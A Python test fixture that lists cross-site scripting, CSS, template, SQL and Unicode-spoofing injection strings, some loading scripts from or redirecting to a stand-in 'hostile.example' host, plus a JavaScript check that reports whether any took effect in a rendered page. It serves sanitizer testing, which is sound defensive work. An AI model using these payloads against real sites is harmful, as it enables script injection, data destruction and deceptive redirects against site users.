"""Strings that act where a page takes them for its own: those of the web-security lists."""

# What would run says so: it raises a dialog, or sets what `LIVE` looks at.
RUN = "window.hacked=1;document.title='HACKED';alert(1)"
AWAY = "http://hostile.example"

HOSTILE = [
    f"<script>{RUN}</script>",
    f"<ScRiPt id=hostile src={AWAY}/x.js></sCrIpT>",
    f'"><script>{RUN}</script>',
    f"</script><script>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f'<img src=hostile onerror="{RUN}">',
    f"<img src=hostile/onerror={RUN}>",
    f'<IMG """><SCRIPT>{RUN}</SCRIPT>">',
    f"<img src='{AWAY}/pixel.gif'>",
    f'<svg onload="{RUN}">',
    f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s>',
    f"<svg><script>{RUN}</script></svg>",
    f'<math><mtext><table><mglyph><style><!--</style><img src=hostile onerror="{RUN}">',
    f'<details open ontoggle="{RUN}"><summary id=hostile>x</summary></details>',
    f'<body onload="{RUN}"><input autofocus onfocus="{RUN}">',
    f'<video><source onerror="{RUN}"></video>',
    f'<iframe srcdoc="<script>parent.hacked=1</script>" src="javascript:{RUN}"></iframe>',
    f'<object data="javascript:{RUN}"></object><embed src="javascript:{RUN}">',
    f"<form action={AWAY}><button id=hostile autofocus formaction=javascript:{RUN}>x</button>",
    f'<meta http-equiv="refresh" content="0;url={AWAY}">',
    f'<base href="{AWAY}/"><link rel=stylesheet href="{AWAY}/x.css">',
    f"</style><style>body{{display:none;background:url({AWAY}/css)}}</style>",
    f"</style><script>{RUN}</script>",
    f"}} body {{ background: url({AWAY}/css) }} .nango-card {{",
    f"@import '{AWAY}/x.css';",
    f"red;background:url({AWAY}/css);x:expression({RUN})",
    f"</pre></td></tr></table></ul></details></div><script>{RUN}</script>",
    f"</textarea></title></xmp></noscript><img src=hostile onerror={RUN}>",
    f'" onmouseover="{RUN}" x="',
    f"' onclick='{RUN}' x='",
    f"` onfocus={RUN} autofocus `",
    f'x" style="position:fixed;inset:0;background:url({AWAY}/attribute)" y="',
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"\x01javascript:{RUN}",
    f"javascript://example.com/%0A{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"vbscript:{RUN}",
    f'https://example.com/" onmouseover="{RUN}',
    f"https://example.com/'><script>{RUN}</script>",
    f"https://example.com/#<img src=hostile onerror={RUN}>",
    "//hostile.example/no-scheme",
    "https://user:pass@hostile.example/",
    f"{{{{ 7 * 7 }}}}{{% raw %}}{{{{ ''.__class__ }}}}${{{RUN}}}#{{{RUN}}}",
    "{{constructor.constructor('window.hacked=1')()}}",
    f"<!-- --!><script>{RUN}</script>",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;&#60;img src=hostile onerror={RUN}&#62;",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"<\x00script>{RUN}</\x00script>",
    f"<img\x0bsrc=hostile\x0conerror={RUN}>",
    "null\x00byte\x07bell\x08back\x1b[31mred\x9b0m",
    "invoice\u202egnp.exe\u2066hidden\u2069\u200f\u200e",
    "zero\u200bwidth\ufeffmark\u2028line\u2029end",
    "a" + "\u0300" * 50,
    f"[click](javascript:{RUN}) ![x]({AWAY}/markdown.png)",
    f"$\\href{{javascript:{RUN}}}{{click}}$ costs $5 and $6",
    f"$$\\style{{background:url({AWAY}/math)}}{{x}}$$ \\(x\\) \\[y\\]",
    "\\begin{align}z\\end{align} \\require{html}",
    "1); DROP TABLE connections; --",
    "__proto__",
    "constructor",
]

# What tells, in a page, whether any of them is live.
LIVE = r"""() => {
    const found = [];
    const ours = new Set(("DIV STYLE P SPAN STRONG BDI TABLE THEAD TBODY TR TH TD B I SMALL UL " +
        "LI BR DETAILS SUMMARY PRE A CODE svg title rect path g line text").split(" "));
    const classes = /^(nango-card|mathjax_ignore|tex2jax_ignore|ng-.*)$/;
    const cards = [...document.querySelectorAll(".nango-card")];
    const css = cards[0]?.querySelector("style").textContent;
    const control = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;
    const unseen = /[\u200b\u200e\u200f\u2028-\u202e\u2060-\u206f\ufeff]/;
    for (const card of cards) {
        if (control.test(card.textContent)) found.push("a control character");
        if (unseen.test(card.textContent)) found.push("a character that hides or turns text");
        for (const node of [card, ...card.querySelectorAll("*")]) {
            if (!ours.has(node.tagName)) found.push(`<${node.tagName}>`);
            for (const name of node.classList) if (!classes.test(name)) found.push(`.${name}`);
            if (node.tagName === "STYLE" && (node.parentNode !== card || node.textContent !== css))
                found.push("a style of its own");
            for (const {name, value} of node.attributes) {
                if (/^(on|src|style|id$|action|formaction|srcdoc|data$|xlink)/.test(name))
                    found.push(`${node.tagName} ${name}=${value}`);
                if (name === "href") {
                    const safe = node.protocol === "http:" || node.protocol === "https:";
                    if (!safe || !node.relList.contains("noopener") || !/^https?:/i.test(value))
                        found.push(`href=${value}`);
                }
            }
        }
    }
    for (const output of document.querySelectorAll(".jp-OutputArea-output"))
        for (const node of output.querySelectorAll("style, script, img, iframe, object, form"))
            if (node.tagName !== "STYLE" || !node.closest(".nango-card"))
                found.push(node.outerHTML);
    if (document.querySelector("#hostile")) found.push("#hostile");
    if (window.hacked) found.push("a script ran");
    if (document.title.includes("HACKED")) found.push("the title changed");
    if (getComputedStyle(document.body).display === "none") found.push("the page is hidden");
    return [...new Set(found)].map(one => one.slice(0, 300));
}"""
